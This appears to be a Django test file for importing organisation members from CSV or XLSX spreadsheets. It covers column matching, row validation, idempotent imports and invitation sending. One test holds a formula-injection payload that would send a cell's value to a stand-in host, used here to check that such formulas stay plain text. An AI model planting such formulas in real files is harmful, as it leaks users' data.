"""Importing a table's members from a spreadsheet: the file read (CSV or XLSX, whatever
its separator, its columns' case or accents), every row's outcome shown with its line,
nothing written while a row is bad, the same file twice changing nothing, and the
invitations sent afterwards in one step."""

import io
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook

from members.models import Delegation, EmailKind, Organisation, OutboxEmail, Sector
from tables.documents import member_import as reader
from tables.models import Invitation, MemberImport, Membership
from tables.services import imports
from tests.conftest import IN_CI
from tests.factories import DelegationFactory, MembershipFactory, OrganisationFactory, TableFactory

pytestmark = pytest.mark.django_db

HEADER = ["Organisation", "Secteur", "Statut", "Prénom", "Nom", "Courriel", "Rôle", "Téléphone"]


@pytest.fixture(autouse=True)
def _french():
    with translation.override("fr-ca"):
        yield


def csv_bytes(rows, delimiter=";", bom=True, encoding="utf-8"):
    text = "\r\n".join(delimiter.join(cells) for cells in rows) + "\r\n"
    return (("\ufeff" if bom else "") + text).encode(encoding)


def xlsx_bytes(rows):
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def upload_of(table, rows, **kwargs):
    file = reader.read_member_file(csv_bytes(rows, **kwargs), "membres.csv")
    return imports.member_import_create(table=table, by=None, file=file, filename="membres.csv")


def message(text, language="fr-ca", **params):
    """`text` as the reader reads it in `language` (what the code shows, translated or not)."""
    with translation.override(language):
        return translation.gettext(text) % params if params else translation.gettext(text)


def lines_in_error(analysis):
    return {row.line: row.errors for row in analysis.bad}


# Reading the file --------------------------------------------------------------------------


def test_a_csv_with_semicolons_and_a_byte_order_mark_is_read():
    content = csv_bytes(
        [HEADER, ["Centre Accueil", "Communautaire", "Membre votant", "Ana", "Roy", "ana@x.org", "", ""]]
    )
    file = reader.read_member_file(content, "membres.csv")
    assert file.rows == [
        (
            2,
            {
                "organisation": "Centre Accueil",
                "sector": "Communautaire",
                "status": "Membre votant",
                "first_name": "Ana",
                "last_name": "Roy",
                "email": "ana@x.org",
            },
        )
    ]


def test_a_csv_with_commas_and_no_byte_order_mark_is_read():
    content = csv_bytes(
        [["organisation", "sector", "email"], ['"Centre, Accueil"', "community", "a@x.org"]],
        delimiter=",",
        bom=False,
    )
    file = reader.read_member_file(content, "members.csv")
    assert file.rows == [(2, {"organisation": "Centre, Accueil", "sector": "community", "email": "a@x.org"})]


def test_columns_are_recognised_whatever_their_case_accents_spacing_or_language():
    header = [
        "  ORGANISME ",
        "secteur",
        "Type d’acteur",
        "STATUS",
        "Prenom",
        "Last name",
        "E-mail",
        "role",
        "Tél.",
    ]
    file = reader.read_member_file(csv_bytes([header, ["A"] * len(header)]), "m.csv")
    assert file.columns == [
        "organisation",
        "sector",
        "actor_type",
        "status",
        "first_name",
        "last_name",
        "email",
        "role",
        "phone",
    ]


def test_other_columns_are_ignored_and_named():
    file = reader.read_member_file(
        csv_bytes([["Organisation", "Notes", "Site web"], ["A", "x", "y"]]), "m.csv"
    )
    assert (file.ignored, file.rows) == (["Notes", "Site web"], [(2, {"organisation": "A"})])


def test_an_xlsx_is_read_with_numbers_as_plain_text_and_blank_rows_counted_in_the_lines():
    content = xlsx_bytes(
        [["Organisation", "Téléphone"], ["A", 4185551234], [None, None], ["B", "+1 418 555-0000"]]
    )
    file = reader.read_member_file(content, "membres.xlsx")
    assert file.rows == [
        (2, {"organisation": "A", "phone": "4185551234"}),
        (4, {"organisation": "B", "phone": "+1 418 555-0000"}),
    ]


def test_formula_like_cells_are_kept_as_text_never_evaluated():
    formula = '=HYPERLINK("http://x.example/?"&A1,"Voir")'
    content = xlsx_bytes([["Organisation", "Nom"], [formula, "=1+1"], ["'@SUM(A1)", "-2"]])
    file = reader.read_member_file(content, "membres.xlsx")
    # The quote an export puts before formula-like text is taken off again.
    assert [values for _line, values in file.rows] == [
        {"organisation": formula, "last_name": "=1+1"},
        {"organisation": "@SUM(A1)", "last_name": "-2"},
    ]


NOT_A_MEMBER_LIST = [
    ("a pdf named csv", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj", "membres.csv", "content"),
    ("a png named xlsx", b"\x89PNG\r\n\x1a\n\x00\x00", "membres.xlsx", "content"),
    ("an old excel workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40, "membres.xls", "xls"),
    ("a word document", b"PK\x03\x04rest", "membres.docx", "type"),
    ("an xlsx that is text", b"Organisation\nA\n", "membres.xlsx", "content"),
    ("an empty file", b"", "membres.csv", "empty"),
    ("blank lines only", b"\xef\xbb\xbf\r\n;;\r\n", "membres.csv", "empty"),
    ("a header and no member", b"Organisation;Courriel\r\n", "membres.csv", "empty"),
    ("no header", b"Centre A;a@x.org\r\nCentre B;b@x.org\r\n", "membres.csv", "header"),
    ("no organisation column", "Prénom;Courriel\r\nAna;a@x.org\r\n".encode(), "membres.csv", "header"),
    (
        "a column twice",
        b"Organisation;Courriel;E-mail\r\nA;a@x.org;b@x.org\r\n",
        "m.csv",
        "duplicate_column",
    ),
    ("windows-1252", "Organisation;Prénom\r\nCentre;Hélène\r\n".encode("cp1252"), "membres.csv", "encoding"),
    ("utf-16", "Organisation\tPrénom\r\nCentre\tHélène\r\n".encode("utf-16"), "membres.csv", "encoding"),
    ("too many rows", ("Organisation\r\n" + "A\r\n" * 5001).encode(), "membres.csv", "too_many_rows"),
    ("too large", b"Organisation\r\n" + b"A" * (2 * 1024 * 1024), "membres.csv", "too_large"),
    ("a broken xlsx", b"PK\x03\x04" + b"\x00" * 100, "membres.xlsx", "damaged"),
]


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [case[1:] for case in NOT_A_MEMBER_LIST],
    ids=[case[0] for case in NOT_A_MEMBER_LIST],
)
def test_a_file_that_is_not_a_readable_member_list_is_refused_with_its_reason(content, name, code):
    with pytest.raises(ValidationError) as refused:
        reader.read_member_file(content, name)
    assert refused.value.code == code


def test_an_opendocument_spreadsheet_is_refused_as_not_xlsx():
    buffer = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<x/>")
    with pytest.raises(ValidationError) as refused:
        reader.read_member_file(buffer.getvalue(), "membres.xlsx")
    assert refused.value.code == "content"


def test_a_wrong_encoding_is_explained_in_the_readers_language():
    content = "Organisation;Prénom\r\nCentre;Hélène\r\n".encode("cp1252")
    for language in ("fr-ca", "en"):
        with translation.override(language), pytest.raises(ValidationError) as refused:
            reader.read_member_file(content, "membres.csv")
        assert "UTF-8" in refused.value.messages[0]
        assert refused.value.messages[0] == message(
            "The file is not in UTF-8: its accents would come out wrong (it is probably in "
            "Windows-1252, as Excel saves « CSV (separator: semicolon) »). Save it as "
            "« CSV UTF-8 » and send it again.",
            language,
        )


# What each row would do --------------------------------------------------------------------


def test_a_known_organisation_is_found_by_name_whatever_its_case_accents_or_spacing_or_by_acronym():
    # given
    table = TableFactory()
    centre = OrganisationFactory(name="Centre multiethnique de Québec", acronym="CMQ")
    mifi = OrganisationFactory(
        name="Ministère de l'Immigration, de la Francisation et de l'Intégration", acronym="MIFI"
    )
    rows = [
        ["Organisation", "Sigle"],
        ["  centre   MULTIETHNIQUE de quebec ", ""],
        ["MIFI", ""],
        ["Centre multiethnique de Québec (CMQ)", ""],
        ["Un autre nom", "cmq"],
    ]
    # when
    analysis = imports.member_import_analyse(member_import=upload_of(table, rows))
    # then
    assert [row.organisation_id for row in analysis.rows] == [centre.pk, mifi.pk, centre.pk, centre.pk]
    assert analysis.counts()["new_organisations"] == 0


def test_an_organisation_new_to_the_directory_is_added_once_with_its_sector_acronym_and_the_tables_region():
    table = TableFactory()
    rows = [
        HEADER,
        ["Maison des familles (MDF)", "Communautaire", "", "Ana", "Roy", "ana@mdf.org", "", ""],
        ["maison des familles", "", "", "Léo", "Roy", "leo@mdf.org", "", ""],
    ]
    upload = upload_of(table, rows)
    imports.member_import_apply(member_import=upload, by=None)
    organisation = Organisation.objects.get(name="Maison des familles")
    assert (organisation.acronym, organisation.sector, organisation.region) == (
        "MDF",
        Sector.COMMUNITY,
        table.region,
    )
    assert Membership.objects.filter(table=table, organisation=organisation, status="voting").count() == 1


def test_people_are_matched_by_email_whatever_its_case():
    # given
    delegation = DelegationFactory(person__email="amina.diallo@cmq.org")
    table, organisation = delegation.membership.table, delegation.membership.organisation
    rows = [HEADER, [organisation.name, "", "", "Amina", "Diallo", "Amina.DIALLO@cmq.org", "délégué·e", ""]]
    # when
    analysis = imports.member_import_analyse(member_import=upload_of(table, rows))
    # then
    assert [(row.person, row.role) for row in analysis.rows] == [("seated", "delegate")]
    assert analysis.counts()["to_invite"] == 0


def test_the_choices_are_read_in_french_or_english():
    table = TableFactory()
    rows = [
        ["Organisation", "Secteur", "Type d'acteur", "Statut", "Courriel", "Rôle"],
        [
            "A",
            "Institutionnel public : santé et services sociaux",
            "Stratégique",
            "membre observateur",
            "a@x.org",
            "Substitut",
        ],
        ["B", "Private sector", "lived-experience expert", "Voting member", "b@x.org", "Delegate"],
        ["C", "MRC", "tactique", "votant", "c@x.org", "déléguée"],
    ]
    analysis = imports.member_import_analyse(member_import=upload_of(table, rows))
    assert analysis.bad == []
    assert [
        (row.values["_sector"], row.values["_actor_type"], row.status, row.role) for row in analysis.rows
    ] == [
        ("public_health", "strategic", "observer", "substitute"),
        ("private", "lived_experience", "voting", "delegate"),
        ("municipal", "tactical", "voting", "delegate"),
    ]


def test_an_empty_role_makes_the_first_person_the_delegate_and_the_others_substitutes():
    table = TableFactory()
    rows = [
        ["Organisation", "Secteur", "Courriel", "Rôle"],
        ["A", "Communautaire", "un@a.org", ""],
        ["A", "", "deux@a.org", ""],
        ["B", "Communautaire", "un@b.org", ""],
        ["B", "", "deux@b.org", "délégué"],
    ]
    analysis = imports.member_import_analyse(member_import=upload_of(table, rows))
    assert [row.role for row in analysis.rows] == ["delegate", "substitute", "substitute", "delegate"]


def test_every_bad_row_is_reported_with_its_line_and_reason():
    # given
    table = TableFactory()
    rows = [
        HEADER,
        ["Centre A", "Communautaire", "", "Ana", "Roy", "ana@a.org", "Délégué·e", ""],
        ["Centre B", "Communautaire", "", "Bob", "Roy", "pas-une-adresse", "", ""],
        ["", "Communautaire", "", "Cid", "Roy", "cid@x.org", "", ""],
        ["Centre C", "Spatial", "", "", "", "", "", ""],
        ["Centre D", "Communautaire", "Membre honoraire", "", "", "", "", ""],
        ["Centre E", "", "", "", "", "", "", ""],
        ["Centre F", "Communautaire", "", "Dan", "Roy", "ana@a.org", "", ""],
        ["Centre A", "", "", "Eve", "Roy", "eve@a.org", "délégué", ""],
        ["Centre G", "Communautaire", "", "Fay", "Roy", "", "", ""],
        ["Centre H", "Communautaire", "", "Gil", "Roy", "gil@h.org", "Président", ""],
    ]
    # when
    errors = lines_in_error(imports.member_import_analyse(member_import=upload_of(table, rows)))
    # then
    assert errors == {
        3: [message("« %(value)s » is not a valid email address.", value="pas-une-adresse")],
        4: [message("No organisation.")],
        5: [
            message("Unknown sector « %(value)s ».", value="Spatial"),
            message("No sector: one is needed to add a new organisation to the directory."),
        ],
        6: [message("Unknown status « %(value)s » (voting member or observer).", value="Membre honoraire")],
        7: [message("No sector: one is needed to add a new organisation to the directory.")],
        8: [message("This address is already on line %(line)s, for another organisation.", line=2)],
        9: [message("Line %(line)s already names the delegate of this organisation; one only.", line=2)],
        10: [message("No email address: one is needed to invite this person.")],
        11: [message("Unknown role « %(value)s » (delegate or substitute).", value="Président")],
    }


def test_an_ambiguous_organisation_is_a_bad_row():
    table = TableFactory()
    OrganisationFactory(name="Carrefour jeunesse-emploi", acronym="CJE")
    OrganisationFactory(name="Carrefour jeunesse emploi", acronym="CJE-2")
    analysis = imports.member_import_analyse(
        member_import=upload_of(table, [["Organisation"], ["carrefour jeunesse emploi"]])
    )
    assert list(lines_in_error(analysis)) == [2]


def test_the_directorys_sector_is_kept_and_the_difference_noted():
    table = TableFactory()
    organisation = OrganisationFactory(name="Ville de Lévis", sector=Sector.MUNICIPAL)
    rows = [["Organisation", "Secteur"], ["Ville de Lévis", "Communautaire"]]
    upload = upload_of(table, rows)
    [row] = imports.member_import_analyse(member_import=upload).rows
    assert row.ok and row.notes == [
        message("The directory gives it the sector « %(known)s »; it is kept.", known=Sector.MUNICIPAL.label)
    ]
    imports.member_import_apply(member_import=upload, by=None)
    organisation.refresh_from_db()
    assert organisation.sector == Sector.MUNICIPAL


def test_rows_of_one_organisation_must_agree_on_its_status():
    table = TableFactory()
    rows = [["Organisation", "Secteur", "Statut"], ["A", "Communautaire", "votant"], ["A", "", "observateur"]]
    errors = lines_in_error(imports.member_import_analyse(member_import=upload_of(table, rows)))
    assert errors == {
        3: [message("The status differs from line %(line)s for the same organisation.", line=2)]
    }


# The import --------------------------------------------------------------------------------


def counts(table):
    return (
        Organisation.objects.count(),
        Membership.objects.filter(table=table).count(),
        list(Membership.objects.filter(table=table).order_by("pk").values_list("status", flat=True)),
        Invitation.objects.filter(membership__table=table).count(),
        Delegation.objects.filter(membership__table=table).count(),
    )


GOOD_AND_BAD = [
    HEADER,
    ["Centre A", "Communautaire", "", "Ana", "Roy", "ana@a.org", "", ""],
    ["Centre B", "Communautaire", "observateur", "Bob", "Roy", "pas-une-adresse", "", ""],
    ["Centre C", "Municipal", "", "Cid", "Roy", "cid@c.org", "", "418 555-1234"],
]


def test_nothing_is_written_while_a_row_is_bad():
    table = TableFactory()
    upload = upload_of(table, GOOD_AND_BAD)
    before = counts(table)
    with pytest.raises(ValidationError) as refused:
        imports.member_import_apply(member_import=upload, by=None)
    assert refused.value.code == "bad_rows"
    assert counts(table) == before
    upload.refresh_from_db()
    assert upload.status == MemberImport.Status.PREVIEW


def test_the_coordination_may_import_the_good_rows_only():
    table = TableFactory()
    upload = imports.member_import_apply(
        member_import=upload_of(table, GOOD_AND_BAD), by=None, good_rows_only=True
    )
    assert sorted(table.memberships.values_list("organisation__name", flat=True)) == ["Centre A", "Centre C"]
    assert upload.summary["left_out"] == [3]
    assert [(i["line"], i["email"], i["role"], i["phone"]) for i in upload.invitees] == [
        (2, "ana@a.org", "delegate", ""),
        (4, "cid@c.org", "delegate", "418 555-1234"),
    ]


def test_good_rows_that_counted_on_a_bad_one_are_left_out_too():
    # Line 3 gives no sector: it counts on line 2, which is bad.
    table = TableFactory()
    rows = [
        HEADER,
        ["Centre B", "Communautaire", "", "Bob", "Roy", "pas-une-adresse", "", ""],
        ["Centre B", "", "", "Bea", "Roy", "bea@b.org", "", ""],
        ["Centre C", "Municipal", "", "", "", "", "", ""],
    ]
    upload = imports.member_import_apply(member_import=upload_of(table, rows), by=None, good_rows_only=True)
    assert upload.summary["left_out"] == [2, 3]
    assert list(table.memberships.values_list("organisation__name", flat=True)) == ["Centre C"]


def test_a_file_is_imported_once():
    table = TableFactory()
    upload = imports.member_import_apply(member_import=upload_of(table, GOOD_AND_BAD[:2]), by=None)
    with pytest.raises(ValidationError) as refused:
        imports.member_import_apply(member_import=upload, by=None)
    assert refused.value.code == "transition"


def test_the_status_of_a_member_already_at_the_table_changes_as_the_file_says():
    membership = MembershipFactory(status="voting")
    rows = [["Organisation", "Statut"], [membership.organisation.name, "Membre observateur"]]
    upload = imports.member_import_apply(member_import=upload_of(membership.table, rows), by=None)
    membership.refresh_from_db()
    assert (membership.status, upload.summary["status_changes"], upload.summary["new_memberships"]) == (
        "observer",
        1,
        0,
    )


def test_importing_the_same_file_again_changes_nothing():
    # given a file imported, and its people invited
    table = TableFactory()
    existing = DelegationFactory(membership__table=table, person__email="deja@la.org")
    rows = (
        GOOD_AND_BAD[:2]
        + GOOD_AND_BAD[3:]
        + [
            [existing.membership.organisation.name, "", "", "", "", "DEJA@la.org", "", ""],
        ]
    )
    first = imports.member_import_apply(member_import=upload_of(table, rows), by=None)
    imports.member_import_send_invitations(member_import_id=_queued(first).pk)
    after_first = counts(table)
    emails = OutboxEmail.objects.count()
    # when the same file is imported again
    second = upload_of(table, rows)
    analysis = imports.member_import_analyse(member_import=second)
    second = imports.member_import_apply(member_import=second, by=None)
    # then
    assert analysis.counts() | {"rows": 0} == {
        "rows": 0,
        "good": 3,
        "bad": 0,
        "new_organisations": 0,
        "new_memberships": 0,
        "status_changes": 0,
        "to_invite": 0,
        "seated": 3,
    }
    assert counts(table) == after_first
    assert second.invitees == []
    assert OutboxEmail.objects.count() == emails


def _queued(upload):
    MemberImport.objects.filter(pk=upload.pk).update(sending=MemberImport.Sending.QUEUED)
    return upload


# Invitations ---------------------------------------------------------------------------------


def test_the_people_are_invited_in_one_step_and_a_second_run_sends_nothing_more(
    world, django_capture_on_commit_callbacks, monkeypatch
):
    # given seven people, invited three at a time
    monkeypatch.setattr(imports, "INVITATION_BATCH", 3)
    rows = [HEADER] + [
        [f"Centre {n}", "Communautaire", "", "Ana", f"Roy{n}", f"ana{n}@x.org", "", ""] for n in range(7)
    ]
    upload = imports.member_import_apply(member_import=upload_of(world.table_a, rows), by=world.coordinator)
    # when
    with django_capture_on_commit_callbacks(execute=True):
        imports.member_import_invite(member_import=upload, by=world.coordinator)
    # then
    upload.refresh_from_db()
    assert (upload.sending, upload.invitations_done, upload.invitations_sent) == ("done", 7, 7)
    invitations = Invitation.objects.filter(membership__table=world.table_a)
    assert invitations.count() == 7
    assert {invitation.invited_by for invitation in invitations} == {world.coordinator}
    assert OutboxEmail.objects.filter(kind=EmailKind.INVITATION, to=["ana6@x.org"]).count() == 1
    # and again: safe to retry
    with django_capture_on_commit_callbacks(execute=True):
        imports.member_import_invite(member_import=upload, by=world.coordinator)
    upload.refresh_from_db()
    assert (upload.sending, upload.invitations_sent, upload.invitations_skipped) == ("done", 0, 7)
    assert invitations.count() == 7


def test_a_sending_under_way_is_not_queued_twice(world):
    upload = imports.member_import_apply(member_import=upload_of(world.table_a, GOOD_AND_BAD[:2]), by=None)
    imports.member_import_invite(member_import=upload, by=world.coordinator)
    with pytest.raises(ValidationError) as refused:
        imports.member_import_invite(member_import=upload, by=world.coordinator)
    assert refused.value.code == "not_now"


def test_a_person_who_took_their_seat_meanwhile_is_passed_over(world):
    rows = [
        HEADER,
        [world.org_a.name, "", "", "", "", world.delegate_a.email.upper(), "substitut", ""],
        [world.org_a.name, "", "", "Zoé", "Roy", "zoe@x.org", "substitut", ""],
    ]
    upload = imports.member_import_apply(member_import=upload_of(world.table_a, rows), by=None)
    assert [invitee["email"] for invitee in upload.invitees] == ["zoe@x.org"]
    DelegationFactory(membership=world.membership_a, person__email="zoe@x.org", role="substitute")
    imports.member_import_send_invitations(member_import_id=_queued(upload).pk)
    upload.refresh_from_db()
    assert (upload.invitations_sent, upload.invitations_skipped) == (0, 1)


# The pages ---------------------------------------------------------------------------------


def post_file(client, table, content, name="membres.csv"):
    return client.post(
        reverse("tables:member-import", args=[table.slug]), {"file": SimpleUploadedFile(name, content)}
    )


def test_the_coordinator_uploads_a_file_sees_every_rows_outcome_and_confirms(world, client_for):
    client = client_for("coordinator")
    # when the file is sent
    response = post_file(client, world.table_a, csv_bytes(GOOD_AND_BAD))
    # then its preview shows each row, with its line
    upload = MemberImport.objects.get(table=world.table_a)
    preview = reverse("tables:member-import-confirm", args=[world.table_a.slug, upload.pk])
    assert response.status_code == 302 and response.url == preview
    page = client.get(preview).content.decode()
    assert "Centre C" in page and "pas-une-adresse" in page
    assert message("« %(value)s » is not a valid email address.", value="pas-une-adresse") in page
    assert Membership.objects.filter(table=world.table_a).count() == 1
    # when confirmed while a row is bad, nothing is written
    response = client.post(preview, {})
    assert response.status_code == 400
    assert Membership.objects.filter(table=world.table_a).count() == 1
    # when the good rows only are chosen
    response = client.post(preview, {"good_rows_only": "on"})
    assert response.status_code == 302
    assert Membership.objects.filter(table=world.table_a).count() == 3
    page = client.get(preview).content.decode()
    assert reverse("tables:member-import-invite", args=[world.table_a.slug, upload.pk]) in page


@pytest.mark.parametrize("language", ["fr-ca", "en"])
def test_the_preview_gives_the_reasons_in_the_readers_language(world, client_for, language):
    client = client_for("coordinator")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    post_file(client, world.table_a, csv_bytes(GOOD_AND_BAD))
    upload = MemberImport.objects.get(table=world.table_a)
    page = client.get(
        reverse("tables:member-import-confirm", args=[world.table_a.slug, upload.pk])
    ).content.decode()
    assert message("« %(value)s » is not a valid email address.", language, value="pas-une-adresse") in page


def test_a_file_that_cannot_be_read_is_refused_with_its_reason_and_nothing_kept(world, client_for):
    content = "Organisation;Prénom\r\nCentre;Hélène\r\n".encode("cp1252")
    response = post_file(client_for("coordinator"), world.table_a, content)
    assert response.status_code == 400
    assert "UTF-8" in response.content.decode()
    assert not MemberImport.objects.exists()


def test_the_send_button_queues_the_invitations_and_the_status_shows_them(
    world, client_for, django_capture_on_commit_callbacks
):
    client = client_for("coordinator")
    upload = imports.member_import_apply(member_import=upload_of(world.table_a, GOOD_AND_BAD[:2]), by=None)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("tables:member-import-invite", args=[world.table_a.slug, upload.pk]))
    assert response.status_code == 302
    status = client.get(reverse("tables:member-import-status", args=[world.table_a.slug, upload.pk]))
    upload.refresh_from_db()
    assert (upload.sending, upload.invitations_sent) == ("done", 1)
    assert 'role="status"' in status.content.decode()
    assert Invitation.objects.get(email="ana@a.org").invited_by == world.coordinator


def test_an_import_of_another_table_is_a_404(world, client_for):
    other = TableFactory()
    upload = upload_of(other, GOOD_AND_BAD[:2])
    client = client_for("coordinator")
    for name in ("tables:member-import-confirm", "tables:member-import-status"):
        assert client.get(reverse(name, args=[world.table_a.slug, upload.pk])).status_code == 404
    assert (
        client.post(reverse("tables:member-import-invite", args=[world.table_a.slug, upload.pk])).status_code
        == 404
    )


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_template_has_the_columns_the_import_reads(world, client_for, fmt):
    response = client_for("coordinator").get(
        reverse("tables:member-import-template", args=[world.table_a.slug, fmt])
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    # The template alone names its columns and lists nobody.
    with pytest.raises(ValidationError) as refused:
        reader.read_member_file(response.content, f"modele.{fmt}")
    assert refused.value.code == "empty"
    aliases = reader.column_aliases()
    header = (
        response.content.decode("utf-8-sig").splitlines()[0].split(";")
        if fmt == "csv"
        else [
            cell.value
            for cell in __import__("openpyxl").load_workbook(io.BytesIO(response.content)).active[1]
        ]
    )
    assert [aliases[reader.fold(cell)] for cell in header] == list(reader.FIELDS)


def test_the_preview_costs_the_same_queries_for_ten_times_the_rows(world, client_for):
    client = client_for("coordinator")

    def queries(n):
        rows = [HEADER] + [
            [f"Centre {i}", "Communautaire", "", "A", "B", f"p{i}@x.org", "", ""] for i in range(n)
        ]
        upload = upload_of(world.table_a, rows)
        url = reverse("tables:member-import-confirm", args=[world.table_a.slug, upload.pk])
        client.get(url)
        with CaptureQueriesContext(connection) as context:
            assert client.get(url).status_code == 200
        return len(context.captured_queries)

    assert queries(5) == queries(50)


# The command -------------------------------------------------------------------------------


def test_the_command_reports_bad_rows_and_writes_nothing(tmp_path, capsys):
    table = TableFactory()
    path = tmp_path / "membres.csv"
    path.write_bytes(csv_bytes(GOOD_AND_BAD))
    with pytest.raises(CommandError, match="--good-rows-only"):
        call_command("import_members", table.slug, str(path))
    assert "line 3:" in capsys.readouterr().err
    assert not table.memberships.exists() and not MemberImport.objects.exists()


def test_the_command_dry_run_writes_nothing_and_the_real_run_imports(tmp_path, capsys):
    table = TableFactory()
    path = tmp_path / "membres.xlsx"
    path.write_bytes(xlsx_bytes([GOOD_AND_BAD[0], GOOD_AND_BAD[1], GOOD_AND_BAD[3]]))
    call_command("import_members", table.slug, str(path), "--dry-run")
    assert "Dry run" in capsys.readouterr().out
    assert not table.memberships.exists()
    call_command("import_members", table.slug, str(path))
    assert table.memberships.count() == 2
    assert MemberImport.objects.get().is_imported


def test_the_command_refuses_an_unknown_table(tmp_path):
    path = tmp_path / "membres.csv"
    path.write_bytes(csv_bytes(GOOD_AND_BAD))
    with pytest.raises(CommandError, match="no-such-table"):
        call_command("import_members", "no-such-table", str(path))


# Valid HTML --------------------------------------------------------------------------------

VNU_JAR = Path(os.environ.get("VNU_JAR", Path(settings.BASE_DIR) / ".ci" / "cache" / "vnu.jar"))


def test_the_import_pages_are_valid_html(world, client_for, tmp_path):
    if not (VNU_JAR.is_file() and shutil.which("java")):
        message_ = f"the Nu Html Checker needs java and {VNU_JAR}"
        if IN_CI:
            pytest.fail(message_)
        pytest.skip(message_)
    client = client_for("coordinator")
    slug = world.table_a.slug
    post_file(client, world.table_a, csv_bytes(GOOD_AND_BAD))
    bad = MemberImport.objects.get()
    good = upload_of(world.table_a, GOOD_AND_BAD[:2])
    imported = imports.member_import_apply(
        member_import=upload_of(world.table_a, [HEADER, GOOD_AND_BAD[3]]), by=None
    )
    imports.member_import_invite(member_import=imported, by=world.coordinator)
    pages = {
        "upload": client.get(reverse("tables:member-import", args=[slug])).text,
        "upload-refused": post_file(client, world.table_a, b"").text,
        "preview-bad": client.get(reverse("tables:member-import-confirm", args=[slug, bad.pk])).text,
        "preview-problems": client.get(
            reverse("tables:member-import-confirm", args=[slug, bad.pk]) + "?problems=1"
        ).text,
        "preview-good": client.get(reverse("tables:member-import-confirm", args=[slug, good.pk])).text,
        "imported": client.get(reverse("tables:member-import-confirm", args=[slug, imported.pk])).text,
        "members": client.get(reverse("tables:membership-list", args=[slug])).text,
    }
    status = client.get(reverse("tables:member-import-status", args=[slug, imported.pk])).text
    pages["status"] = (
        f'<!DOCTYPE html><html lang="fr"><head><title>x</title></head><body>{status}</body></html>'
    )
    for name, text in pages.items():
        (tmp_path / f"{name}.html").write_text(text)
    result = subprocess.run(
        ["java", "-jar", str(VNU_JAR), "--errors-only", "--format", "json", "--skip-non-html", str(tmp_path)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    problems = [
        f"{Path(m['url']).name} line {m.get('lastLine')}: {m['message']}"
        for m in json.loads(result.stderr or "{}").get("messages", [])
        if m.get("type") == "error"
    ]
    assert problems == [], "\n".join(problems)
